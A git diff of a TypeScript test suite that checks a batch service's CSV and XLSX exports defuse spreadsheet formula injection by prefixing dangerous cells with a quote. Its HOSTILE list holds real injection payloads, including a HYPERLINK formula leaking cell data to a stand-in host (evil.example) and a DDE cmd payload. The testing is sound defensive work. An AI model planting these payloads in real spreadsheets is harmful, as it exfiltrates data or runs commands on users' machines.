@@ -4,7 +4,7 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createHarness, type Harness } from '../helpers/services.ts';
-import { batchClient, csvRows, xlsxRows, } from './batch-http.ts';
+import { batchClient, csvRows, xlsxRows } from './batch-http.ts';
 import { writeCsvOutput } from '../../src/client/write-csv-output.ts';
 import { writeXlsxOutput } from '../../src/client/write-xlsx-output.ts';
 import { defuseFormula } from '../../src/security/defuse-formula.ts';
@@ -14,7 +14,7 @@ import { defuseFormula } from '../../src/security/defuse-formula.ts';
  * back prefixed with a single quote (OWASP, CSV injection), in the server's batch results and in
  * the client program's outputs, CSV and XLSX (issue 15, item 7). Codes and PECs are untouched.
  */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', '\r=CR'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTAB', '\r=CR'];
 const REZZOAGLIO = '82003050109';
 /** XML turns a stored CR into LF when read back: what counts is the quote in front. */
 const defusedInXlsx = HOSTILE.map((cell) => `'${cell.replace('\r', '\n')}`);
@@ -22,7 +22,8 @@ const defusedInXlsx = HOSTILE.map((cell) => `'${cell.replace('\r', '\n')}`);
 describe('formula injection', () => {
   test('defuseFormula prefixes exactly the dangerous starts', () => {
     for (const cell of HOSTILE) assert.equal(defuseFormula(cell), `'${cell}`);
-    for (const cell of ['82003050109', 'protocollo@pec.comune.rezzoaglio.ge.it', 'Comune di Rezzoaglio', '', ' =spazio', "'già"]) assert.equal(defuseFormula(cell), cell);
+    for (const cell of ['82003050109', 'protocollo@pec.comune.rezzoaglio.ge.it', 'Comune di Rezzoaglio', '', ' =spazio', "'già"])
+      assert.equal(defuseFormula(cell), cell);
   });
 
   describe('server batch results', () => {
@@ -45,20 +46,32 @@ describe('formula injection', () => {
       const r = await client.get(`/v1/batches/${batchId}/results?format=csv`);
       const rows = csvRows(r.body);
       assert.deepEqual(rows[0].slice(0, 2), ['codice', "'=nota"]);
-      assert.deepEqual(rows.slice(1).map((row) => row[1]), HOSTILE.map((cell) => `'${cell}`));
-      assert.ok(rows.slice(1).every((row) => row[0] === REZZOAGLIO && row[2] === REZZOAGLIO), 'codes untouched');
+      assert.deepEqual(
+        rows.slice(1).map((row) => row[1]),
+        HOSTILE.map((cell) => `'${cell}`),
+      );
+      assert.ok(
+        rows.slice(1).every((row) => row[0] === REZZOAGLIO && row[2] === REZZOAGLIO),
+        'codes untouched',
+      );
     });
 
     test('XLSX', async () => {
       const r = await client.get(`/v1/batches/${batchId}/results?format=xlsx`);
       const rows = await xlsxRows(r.body);
       assert.equal(rows[0][1], "'=nota");
-      assert.deepEqual(rows.slice(1).map((row) => row[1]), defusedInXlsx);
+      assert.deepEqual(
+        rows.slice(1).map((row) => row[1]),
+        defusedInXlsx,
+      );
     });
 
     test('JSON keeps the text as it was (no spreadsheet reads it)', async () => {
       const r = await client.get(`/v1/batches/${batchId}/results?format=json`);
-      assert.deepEqual(r.body.map((row: any) => row.input['=nota']), HOSTILE);
+      assert.deepEqual(
+        r.body.map((row: any) => row.input['=nota']),
+        HOSTILE,
+      );
     });
   });
 
@@ -73,7 +86,10 @@ describe('formula injection', () => {
       await writeCsvOutput(path, columns, rows(), ';');
       const read = csvRows(readFileSync(path, 'utf8'), ';');
       assert.deepEqual(read[0], ["'=titolo", 'codice', 'importo', 'pec']);
-      assert.deepEqual(read.slice(1).map((row) => row[0]), HOSTILE.map((cell) => `'${cell}`));
+      assert.deepEqual(
+        read.slice(1).map((row) => row[0]),
+        HOSTILE.map((cell) => `'${cell}`),
+      );
       assert.deepEqual(read[1].slice(1), [REZZOAGLIO, '-5', 'protocollo@pec.comune.rezzoaglio.ge.it'], 'a number stays a number');
     });
 
@@ -82,7 +98,10 @@ describe('formula injection', () => {
       await writeXlsxOutput(path, columns, rows(), 'Risultati');
       const read = await xlsxRows(readFileSync(path));
       assert.equal(read[0][0], "'=titolo");
-      assert.deepEqual(read.slice(1).map((row) => row[0]), defusedInXlsx);
+      assert.deepEqual(
+        read.slice(1).map((row) => row[0]),
+        defusedInXlsx,
+      );
       assert.equal(read[1][2], '-5');
     });
   });
